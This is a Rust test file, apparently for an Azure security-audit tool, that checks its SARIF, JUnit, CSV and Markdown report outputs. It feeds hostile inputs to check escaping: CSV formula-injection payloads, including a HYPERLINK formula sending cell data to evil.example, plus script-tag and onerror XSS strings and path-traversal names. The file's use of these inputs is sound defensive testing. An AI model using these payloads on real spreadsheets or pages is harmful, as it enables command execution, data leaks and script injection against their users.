//! The SARIF, JUnit, CSV and Markdown outputs: a snapshot of each over the
//! small report (tests/common: a handful of results in every status, a
//! property rule, hostile names), the same formats checked over the whole
//! demo by counts and invariants, the SARIF schema validation, fingerprint
//! stability, and the escaping and formula-injection cases.
//!
//! The demo fixture is the demo estate with the default baseline, a fixed
//! timing, a `--fail-on high` gate, and two results changed so that every
//! format's `error` and `waived` paths are exercised (the demo answers every
//! read and has no waivers): the first failing AZ-KV-003 result is waived,
//! and the first passing AZ-ST-001 result is an error.

mod common;

use azward::checks::{Severity, Status};
use azward::engine::{ResultRow, WaiverNote};
use azward::profile::Baseline;
use azward::report::{csv, junit, markdown, sarif, Report};
use common::{count, sarif_schema_check, small_report, validate_sarif, Audit};
use serde_json::Value;
use std::collections::BTreeSet;
use std::sync::OnceLock;

fn build() -> Report {
    common::block_on(
        Audit::demo()
            .fail_on(Severity::High)
            .run_edited(|r| make_waived_and_error(r)),
    )
    .report
}

fn make_waived_and_error(results: &mut [ResultRow]) {
    let waived = results
        .iter_mut()
        .find(|r| r.check_id == "AZ-KV-003" && r.status == Status::Fail)
        .expect("the demo has a failing AZ-KV-003 result");
    waived.status = Status::Waived;
    waived.remediation_cli = None;
    waived.waiver = Some(WaiverNote {
        reason: "vault is being migrated to RBAC (CHG-1042)".into(),
        owner: "platform-team@contoso.example".into(),
        expires: "2099-12-31".into(),
        original_status: Status::Fail,
        line: 3,
    });
    let errored = results
        .iter_mut()
        .find(|r| r.check_id == "AZ-ST-001" && r.status == Status::Pass)
        .expect("the demo has a passing AZ-ST-001 result");
    errored.status = Status::Error;
    errored.reason = "could not read the diagnostic settings: HTTP 403 AuthorizationFailed".into();
}

/// The demo fixture described above.
fn fixture() -> &'static Report {
    static REPORT: OnceLock<Report> = OnceLock::new();
    REPORT.get_or_init(build)
}

/// The small report of tests/common.
fn small() -> &'static Report {
    static REPORT: OnceLock<Report> = OnceLock::new();
    REPORT.get_or_init(small_report)
}

/// The small report has what its snapshots are meant to show.
#[test]
fn the_small_report_has_every_status_and_a_property_rule() {
    let report = small();
    for s in [
        Status::Pass,
        Status::Fail,
        Status::Error,
        Status::Waived,
        Status::NotApplicable,
    ] {
        assert!(count(report, s) >= 1, "no {s:?} result");
    }
    assert!(report.results.len() <= 10, "{}", report.results.len());
    assert!(report.results.iter().any(|r| r.check_id == "ORG-LAW-001"));
    assert_eq!(report.checks.len(), common::SMALL_CHECKS.len() + 1);
    let waived = report
        .results
        .iter()
        .find(|r| r.status == Status::Waived)
        .unwrap();
    assert!(
        waived.resource_id.ends_with("/kv-nw-dev-tools"),
        "waived through the waivers file"
    );
    assert_eq!(report.waivers.as_ref().unwrap().applied.len(), 1);
    assert!(report
        .results
        .iter()
        .any(|r| r.status == Status::Fail && r.reason == common::HOSTILE_REASON));
}

// ---------------------------------------------------------------- SARIF

/// What any SARIF output must hold: valid SARIF 2.1.0, one rule per check,
/// one result per failing result, errors as notifications, no timing.
fn check_sarif(report: &Report, text: &str) -> Value {
    let doc: Value = serde_json::from_str(text).expect("SARIF is JSON");
    validate_sarif(&doc);

    let run = &doc["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert_eq!(rules.len(), report.checks.len(), "one rule per check");
    let results = run["results"].as_array().unwrap();
    assert_eq!(
        results.len(),
        count(report, Status::Fail),
        "one result per fail"
    );
    for r in results {
        let idx = r["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(
            rules[idx]["id"], r["ruleId"],
            "ruleIndex points at the rule"
        );
        let uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap();
        assert!(uri.starts_with("azure/") && !uri.contains(".."), "{uri}");
        assert_eq!(r["locations"][0]["logicalLocations"][0]["kind"], "resource");
        assert!(r["partialFingerprints"]["primaryLocationLineHash"].is_string());
        assert!(!r["message"]["text"].as_str().unwrap().is_empty());
    }
    for rule in rules {
        for key in ["shortDescription", "fullDescription", "help"] {
            let t = rule[key]["text"].as_str().unwrap();
            assert!(!t.is_empty(), "{} {key}", rule["id"]);
        }
        assert!(
            rule["fullDescription"]["text"]
                .as_str()
                .unwrap()
                .chars()
                .count()
                <= 1024
        );
        let sev: f64 = rule["properties"]["security-severity"]
            .as_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!(sev > 0.0 && sev <= 10.0);
        assert!(rule["properties"]["tags"]
            .as_array()
            .unwrap()
            .contains(&Value::from("security")));
    }
    let notes = run["invocations"][0]["toolExecutionNotifications"]
        .as_array()
        .unwrap();
    let error_notes = notes
        .iter()
        .filter(|n| n["associatedRule"].is_object())
        .count();
    assert_eq!(
        error_notes,
        count(report, Status::Error),
        "errors are notifications"
    );
    assert_eq!(
        run["automationDetails"]["id"],
        "azward/4f3c2b1a-6d5e-4a7b-9c8d-0e1f2a3b4c5d/"
    );
    assert!(!text.contains("redacted"), "no timing in the SARIF output");
    doc
}

#[test]
fn sarif_snapshot_and_schema() {
    let report = small();
    let text = sarif::render(report);
    let doc = check_sarif(report, &text);
    insta::assert_snapshot!("small_sarif", text);

    // The validator is not vacuous: what the schema forbids is caught.
    let mut bad = doc.clone();
    bad["runs"][0]["results"][0]["level"] = "fatal".into();
    assert!(sarif_schema_check(&bad).is_err());
    let mut bad = doc.clone();
    bad["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] =
        "one".into();
    assert!(sarif_schema_check(&bad).is_err());
    let mut bad = doc;
    bad["runs"][0]["tool"]["driver"]["rules"][0]["unknownProperty"] = true.into();
    assert!(sarif_schema_check(&bad).is_err());
}

/// Over the whole demo: the invariants above, and every failing result is a
/// SARIF result on its resource (and nothing else is).
#[test]
fn sarif_over_the_demo() {
    let report = fixture();
    let text = sarif::render(report);
    let doc = check_sarif(report, &text);
    let got: BTreeSet<String> = doc["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let fqn = r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
                .as_str()
                .unwrap();
            let fp = r["partialFingerprints"]["azwardFinding/v1"]
                .as_str()
                .unwrap();
            format!("{} {fqn} {fp}", r["ruleId"].as_str().unwrap()).to_lowercase()
        })
        .collect();
    let want: BTreeSet<String> = report
        .results
        .iter()
        .filter(|r| r.status == Status::Fail)
        .map(|r| {
            format!("{} {} {}", r.check_id, r.resource_id, sarif::fingerprint(r)).to_lowercase()
        })
        .collect();
    assert_eq!(
        got, want,
        "one SARIF result per failing result, on its resource"
    );
    let waived = report
        .results
        .iter()
        .find(|r| r.status == Status::Waived)
        .unwrap();
    assert!(!got.iter().any(|g| g.contains(&sarif::fingerprint(waived))));
}

#[test]
fn formats_with_an_organisation_profile() {
    let baseline = Baseline::load(
        &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/baseline-northwind.toml"),
    )
    .expect("the example profile loads");
    let report = Audit::demo()
        .baseline(baseline)
        .fail_on(Severity::High)
        .report();
    assert!(
        !report.baseline.rules.is_empty(),
        "the example has property rules"
    );
    let text = sarif::render(&report);
    let doc: Value = serde_json::from_str(&text).unwrap();
    validate_sarif(&doc);
    let rules = doc["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .unwrap();
    for pr in &report.baseline.rules {
        let rule = rules
            .iter()
            .find(|r| r["id"] == pr.id)
            .expect("a rule per property rule");
        assert_eq!(rule["shortDescription"]["text"], pr.title);
        assert!(rule["help"]["text"]
            .as_str()
            .unwrap()
            .contains(&pr.remediation));
        assert!(rule["fullDescription"]["text"]
            .as_str()
            .unwrap()
            .contains(&pr.condition));
    }
    let xml = junit::render(&report);
    check_xml(&xml);
    for pr in &report.baseline.rules {
        assert!(xml.contains(&format!("<testsuite name=\"{} ", pr.id)));
    }
    let rows = parse_csv(&csv::render(&report));
    assert_eq!(rows.len(), report.results.len() + 1);
    assert!(rows.iter().any(|r| r[2] == "CUSTOM"));
    let md = markdown::render(&report, None);
    assert!(md.contains("### Top failing checks"));
}

#[test]
fn sarif_keeps_within_githubs_result_limit() {
    let mut report = fixture().clone();
    let low = report
        .results
        .iter()
        .find(|r| r.status == Status::Fail && r.severity == Severity::Low)
        .unwrap()
        .clone();
    let high = report
        .results
        .iter()
        .find(|r| r.status == Status::Fail && r.severity == Severity::High)
        .unwrap()
        .clone();
    let fails = count(&report, Status::Fail);
    let extra = sarif::MAX_RESULTS + 10 - fails;
    for i in 0..extra {
        let mut r = low.clone();
        r.resource_id = format!("{}-{i}", low.resource_id).into();
        report.results.push(r);
    }
    let mut last = high.clone();
    last.resource_id = format!("{}-last", last.resource_id).into();
    report.results.push(last);
    let doc: Value = serde_json::from_str(&sarif::render(&report)).unwrap();
    let run = &doc["runs"][0];
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), sarif::MAX_RESULTS);
    assert!(
        results.iter().any(
            |r| r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
                .as_str()
                .unwrap()
                .ends_with("-last")
        ),
        "a high finding is kept over low ones"
    );
    let notes = run["invocations"][0]["toolExecutionNotifications"]
        .as_array()
        .unwrap();
    assert!(notes.iter().any(|n| n["message"]["text"]
        .as_str()
        .unwrap()
        .starts_with("11 failing results left out")));
}

fn fingerprints(text: &str) -> Vec<String> {
    let doc: Value = serde_json::from_str(text).unwrap();
    doc["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            r["partialFingerprints"]["azwardFinding/v1"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect()
}

#[test]
fn sarif_fingerprints_are_stable_and_distinct() {
    let a = sarif::render(fixture());
    let b = sarif::render(&build());
    assert_eq!(a, b, "same input, byte-identical SARIF");
    let fa = fingerprints(&a);
    assert_eq!(fa, fingerprints(&b));
    let unique: BTreeSet<&String> = fa.iter().collect();
    assert_eq!(
        unique.len(),
        fa.len(),
        "every finding has its own fingerprint"
    );

    let row = fixture()
        .results
        .iter()
        .find(|r| r.status == Status::Fail)
        .unwrap()
        .clone();
    let fp = sarif::fingerprint(&row);
    assert_eq!(fp.len(), 64);
    assert!(fp
        .chars()
        .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase()));
    // The reason, severity and casing of the id are not part of the identity…
    let mut same = row.clone();
    same.reason = "worded differently".into();
    same.severity = Severity::Low;
    same.resource_id = row.resource_id.to_uppercase().into();
    assert_eq!(sarif::fingerprint(&same), fp);
    // …the resource, the item and the check are.
    let mut other = row.clone();
    other.resource_id = format!("{}2", other.resource_id).into();
    assert_ne!(sarif::fingerprint(&other), fp);
    let mut item = row.clone();
    item.item = Some("Microsoft.Authorization/policyAssignments/write".into());
    assert_ne!(sarif::fingerprint(&item), fp);
    let mut check = row.clone();
    check.check_id = "AZ-ZZ-999";
    assert_ne!(sarif::fingerprint(&check), fp);
    // The documented formula.
    use sha2::{Digest, Sha256};
    let expected: String = Sha256::digest(format!(
        "{}|{}|{}",
        row.check_id,
        row.resource_id.to_lowercase(),
        row.item.clone().unwrap_or_default()
    ))
    .iter()
    .map(|b| format!("{b:02x}"))
    .collect();
    assert_eq!(fp, expected);
}

#[test]
fn sarif_with_hostile_names_is_still_valid() {
    let mut report = fixture().clone();
    let r = report
        .results
        .iter_mut()
        .find(|r| r.status == Status::Fail)
        .unwrap();
    r.resource_id =
        "/subscriptions/x/resourceGroups/rg a/providers/Microsoft.KeyVault/vaults/../<img src=x>?#%".into();
    r.reason = "\"><script>alert(1)</script>\u{1}".into();
    let text = sarif::render(&report);
    let doc: Value = serde_json::from_str(&text).unwrap();
    validate_sarif(&doc);
    let uris: Vec<&str> = doc["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .unwrap()
        })
        .collect();
    assert!(uris.contains(
        &"azure/subscriptions/x/resourcegroups/rg%20a/providers/microsoft.keyvault/vaults/%2E%2E/%3Cimg%20src%3Dx%3E%3F%23%25"
    ));
}

// ---------------------------------------------------------------- JUnit

/// A small well-formedness check: balanced tags, quoted attributes, no raw
/// `<` or `&` outside markup and entities, no character XML 1.0 forbids.
fn check_xml(xml: &str) {
    for c in xml.chars() {
        assert!(
            matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..='\u{10FFFF}'),
            "forbidden character {c:?}"
        );
    }
    let mut stack: Vec<String> = Vec::new();
    let mut rest = xml
        .strip_prefix("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n")
        .expect("XML declaration");
    while let Some(start) = rest.find('<') {
        check_text(&rest[..start]);
        if let Some(comment) = rest[start..].strip_prefix("<!--") {
            let close = comment.find("-->").expect("comment closes");
            let body = &comment[..close];
            assert!(
                !body.contains("--") && !body.ends_with('-'),
                "`--` in a comment: {body:?}"
            );
            rest = &comment[close + 3..];
            continue;
        }
        let end = rest[start..].find('>').expect("tag closes") + start;
        let tag = &rest[start + 1..end];
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(stack.pop().as_deref(), Some(name), "balanced tags");
        } else {
            let self_closing = tag.ends_with('/');
            let tag = tag.trim_end_matches('/');
            let name = tag.split(' ').next().unwrap();
            // Attributes: name="value" pairs, values without < or ".
            let mut attrs = tag[name.len()..].trim();
            while !attrs.is_empty() {
                let eq = attrs.find("=\"").expect("attribute = \"value\"");
                let close = attrs[eq + 2..].find('"').expect("attribute closes") + eq + 2;
                let value = &attrs[eq + 2..close];
                assert!(!value.contains('<'), "raw < in attribute {value:?}");
                check_text(value);
                attrs = attrs[close + 1..].trim_start();
            }
            if !self_closing {
                stack.push(name.to_string());
            }
        }
        rest = &rest[end + 1..];
    }
    check_text(rest);
    assert!(stack.is_empty(), "unclosed {stack:?}");
}

fn check_text(t: &str) {
    assert!(!t.contains('>'), "raw > in {t:?}");
    let mut s = t;
    while let Some(i) = s.find('&') {
        let semi = s[i..].find(';').expect("entity ends") + i;
        let ent = &s[i + 1..semi];
        assert!(
            matches!(ent, "amp" | "lt" | "gt" | "quot" | "apos")
                || ent
                    .strip_prefix('#')
                    .is_some_and(|n| n.parse::<u32>().is_ok()),
            "bad entity &{ent};"
        );
        s = &s[semi + 1..];
    }
}

fn attr_values<'a>(xml: &'a str, name: &str) -> Vec<&'a str> {
    let pat = format!(" {name}=\"");
    xml.match_indices(&pat)
        .map(|(i, _)| {
            let v = &xml[i + pat.len()..];
            &v[..v.find('"').unwrap()]
        })
        .collect()
}

/// What any JUnit output must hold: well-formed XML, a suite per check, a
/// test case per result, counts that match the results and add up.
fn check_junit(report: &Report, xml: &str) {
    check_xml(xml);
    assert_eq!(xml.matches("<testsuite ").count(), report.checks.len());
    assert_eq!(xml.matches("<testcase ").count(), report.results.len());
    assert_eq!(
        xml.matches("<failure ").count(),
        count(report, Status::Fail)
    );
    assert_eq!(xml.matches("<error ").count(), count(report, Status::Error));
    assert_eq!(
        xml.matches("<skipped ").count(),
        count(report, Status::Waived) + count(report, Status::NotApplicable)
    );
    let root = xml.lines().nth(1).unwrap();
    assert!(root.starts_with("<testsuites "));
    assert_eq!(
        attr_values(root, "tests"),
        [report.results.len().to_string()]
    );
    assert_eq!(
        attr_values(root, "failures"),
        [count(report, Status::Fail).to_string()]
    );
    assert_eq!(
        attr_values(root, "errors"),
        [count(report, Status::Error).to_string()]
    );
    // Suite counts add up to the root's.
    let suites: Vec<&str> = xml.lines().filter(|l| l.contains("<testsuite ")).collect();
    let sum = |k: &str| -> u64 {
        suites
            .iter()
            .map(|l| attr_values(l, k)[0].parse::<u64>().unwrap())
            .sum()
    };
    assert_eq!(sum("tests"), report.results.len() as u64);
    assert_eq!(
        sum("skipped"),
        attr_values(root, "skipped")[0].parse::<u64>().unwrap()
    );
}

#[test]
fn junit_snapshot() {
    let report = small();
    let xml = junit::render(report);
    check_junit(report, &xml);
    insta::assert_snapshot!("small_junit", xml);
}

#[test]
fn junit_over_the_demo() {
    let report = fixture();
    check_junit(report, &junit::render(report));
}

#[test]
fn junit_escapes_markup_and_control_characters() {
    let mut report = fixture().clone();
    let hostile = "<script>&\"'\u{1}\u{1b}]]>\r\nend";
    for status in [Status::Fail, Status::Error, Status::NotApplicable] {
        let r = report
            .results
            .iter_mut()
            .find(|r| r.status == status)
            .unwrap();
        r.reason = hostile.into();
        r.resource_id =
            format!("/subscriptions/x/resourceGroups/rg/providers/P/t/{hostile}").into();
        r.item = Some("it<em>".into());
    }
    // A warning is an XML comment, which may not hold `--`.
    report.warnings.push("a---b ----- c-".into());
    let xml = junit::render(&report);
    check_xml(&xml);
    assert!(xml.contains("<!-- warning: a- - -b"), "{xml}");
    assert!(!xml.contains("<script>") && !xml.contains("<em>"));
    assert!(!xml.contains('\u{1}') && !xml.contains('\u{1b}'));
    let escaped_attr = "&lt;script&gt;&amp;&quot;&apos;\u{FFFD}\u{FFFD}]]&gt;&#13;&#10;end";
    assert!(
        xml.contains(&format!("<failure message=\"{escaped_attr}\" type=")),
        "{xml}"
    );
    assert!(xml.contains(&format!("<error message=\"{escaped_attr}\"")));
    assert!(xml.contains(&format!(
        "<skipped message=\"not applicable: {escaped_attr}\"/>"
    )));
    assert!(xml.contains("[it&lt;em&gt;]\" time=\"0\""));
    // In element text, LF stays; CR is kept as a reference.
    assert!(xml.contains("&lt;script&gt;&amp;&quot;&apos;\u{FFFD}\u{FFFD}]]&gt;&#13;\nend"));
}

// ---------------------------------------------------------------- CSV

/// An RFC 4180 reader: CRLF records, quoted fields with doubled quotes.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    let mut at_start = true;
    while let Some(c) = chars.next() {
        if quoted {
            if c == '"' {
                if chars.peek() == Some(&'"') {
                    chars.next();
                    field.push('"');
                } else {
                    quoted = false;
                }
            } else {
                field.push(c);
            }
            continue;
        }
        match c {
            '"' if at_start => {
                quoted = true;
                at_start = false;
            }
            '"' => panic!("a quote inside an unquoted field"),
            ',' => {
                row.push(std::mem::take(&mut field));
                at_start = true;
            }
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "records end in CRLF");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
                at_start = true;
            }
            '\n' => panic!("a bare LF outside quotes"),
            c => {
                field.push(c);
                at_start = false;
            }
        }
    }
    assert!(
        !quoted && field.is_empty() && row.is_empty(),
        "ends with CRLF"
    );
    rows
}

/// What any CSV output must hold: the header, a row per result in result
/// order, twelve columns, waiver and remediation columns filled where due.
fn check_csv(report: &Report, text: &str) {
    let rows = parse_csv(text);
    assert_eq!(rows[0], csv::HEADER);
    assert_eq!(rows.len(), report.results.len() + 1);
    assert!(rows.iter().all(|r| r.len() == 12));
    let waived = rows.iter().find(|r| r[4] == "waived").unwrap();
    assert_eq!(waived[10], "platform-team@contoso.example");
    assert_eq!(waived[11], "2099-12-31");
    let fail = rows.iter().find(|r| r[4] == "fail").unwrap();
    assert!(fail[9].starts_with("az "), "remediation_cli on fail rows");
    for (row, r) in rows[1..].iter().zip(&report.results) {
        assert_eq!(row[0], r.check_id);
        assert_eq!(row[4], r.status.as_str());
    }
}

#[test]
fn csv_snapshot() {
    let report = small();
    let text = csv::render(report);
    check_csv(report, &text);
    // Records end in CRLF (checked by the reader); the snapshot file has LF.
    insta::assert_snapshot!("small_csv", text.replace("\r\n", "\n"));
}

#[test]
fn csv_over_the_demo() {
    let report = fixture();
    check_csv(report, &csv::render(report));
}

#[test]
fn csv_neutralises_formula_injection() {
    let payloads = [
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    ];
    let template = fixture()
        .results
        .iter()
        .find(|r| r.status == Status::Fail)
        .unwrap()
        .clone();
    let mut report = fixture().clone();
    report.results.clear();
    for p in payloads {
        report.results.push(ResultRow {
            resource_id: p.to_string().into(),
            item: Some(p.to_string()),
            reason: p.to_string(),
            remediation_cli: Some(p.to_string()),
            ..template.clone()
        });
    }
    let rows = parse_csv(&csv::render(&report));
    assert_eq!(rows.len(), payloads.len() + 1);
    for (row, p) in rows[1..].iter().zip(payloads) {
        for col in [6, 7, 8, 9] {
            // Control characters are dropped (a tab or CR becomes a space).
            let p = azward::util::text::printable(p);
            assert_eq!(row[col], format!("'{p}"), "column {}", csv::HEADER[col]);
        }
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
        }
    }
    // Ordinary values are left alone.
    assert_eq!(csv::cell("/subscriptions/x"), "/subscriptions/x");
    assert_eq!(
        csv::cell("vault 'kv-1' uses RBAC"),
        "vault 'kv-1' uses RBAC"
    );
}

// ---------------------------------------------------------------- Markdown

fn new_findings(report: &Report) -> Vec<&ResultRow> {
    report
        .results
        .iter()
        .filter(|r| r.status == Status::Fail && r.severity >= Severity::High)
        .collect()
}

#[test]
fn markdown_snapshot() {
    let report = fixture();
    let new = new_findings(report);
    assert!(
        new.len() > markdown::MAX_NEW_FINDINGS,
        "the snapshot shows the cut"
    );
    let md = markdown::render(report, Some(&new));
    assert!(md.len() < 65_536, "fits a pull-request comment");
    assert!(md.contains("### New findings since the previous report"));
    assert!(md.contains(&format!(
        "…and {} more.",
        new.len() - markdown::MAX_NEW_FINDINGS
    )));
    assert!(md.contains("gate ❌ **failed**"));
    assert!(md.contains("Not assessed: 1 result(s)"));
    let without = markdown::render(report, None);
    assert!(!without.contains("New findings"));
    insta::assert_snapshot!("markdown", md);
}

/// Pipes of a GFM table row: split on pipes that are not backslash-escaped.
fn cells(line: &str) -> usize {
    let mut n = 0;
    let mut escaped = false;
    for c in line.chars() {
        match c {
            '\\' if !escaped => escaped = true,
            '|' if !escaped => n += 1,
            _ => escaped = false,
        }
    }
    n
}

#[test]
fn markdown_escapes_azure_strings() {
    let mut report = fixture().clone();
    let hostile_id = "/subscriptions/x/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/a|b<img src=x onerror=alert(1)>";
    let r = report
        .results
        .iter_mut()
        .find(|r| r.status == Status::Fail && r.severity >= Severity::High)
        .unwrap();
    r.resource_id = hostile_id.into();
    r.reason =
        "vault '*x*' `code` [link](https://evil.example) _u_ @octocat\n| injected | row |".into();
    let hostile = r.clone();
    report.table_activity =
        common::hostile_activity("a|b<img src=x onerror=alert(1)> [l](u) @octocat");
    let new = [&hostile];
    let md = markdown::render(&report, Some(&new));
    assert!(md.contains("- **law a\\|b\\<img src=x onerror=alert(1)\\> \\[l\\](u) @\u{2060}octocat**: 2/3 tables with rows; silent: Silent a\\|b"), "{md}");
    for (i, _) in md.match_indices('<') {
        assert_eq!(&md[i - 1..i], "\\", "an unescaped < at {i}: {md}");
    }
    assert!(md.contains("a\\|b\\<img src=x onerror=alert(1)\\>"));
    assert!(md.contains(
        "vault '\\*x\\*' \\`code\\` \\[link\\](https:\u{2060}//evil.example) \\_u\\_ @\u{2060}octocat \\| injected \\| row \\|"
    ));
    // Every table row keeps its column count.
    let section = md.split("### New findings").nth(1).unwrap();
    for line in section.lines().filter(|l| l.starts_with('|')) {
        assert_eq!(cells(line), 5, "{line}");
    }
}

#[test]
fn the_report_describes_every_check_it_lists() {
    let report = common::demo_report();
    assert!(!report.checks.is_empty());
    for c in &report.checks {
        let info = report
            .check(c.id)
            .unwrap_or_else(|| panic!("{} has no description", c.id));
        assert_eq!(
            (info.id, info.title, info.severity),
            (c.id, c.title, c.severity)
        );
    }
    assert_eq!(report.catalogue.len(), report.checks.len());
    assert!(report.check("AZ-NOPE-001").is_none());
}

/// The per-result commands of the JSON report (made by the engine, not by
/// `Remediation::cli_for`) leave no `<hint>` unquoted: pasted, `<` and `>`
/// would be redirections.
#[test]
fn result_commands_quote_their_hints() {
    let report = common::demo_report();
    let mut with_hint = 0;
    for r in &report.results {
        if let Some(cli) = &r.remediation_cli {
            with_hint += usize::from(cli.contains('<'));
            assert_eq!(
                azward::checks::quote_hints(cli),
                *cli,
                "{}: an unquoted hint",
                r.check_id
            );
        }
    }
    assert!(with_hint > 0, "the demo has commands with hints");
}
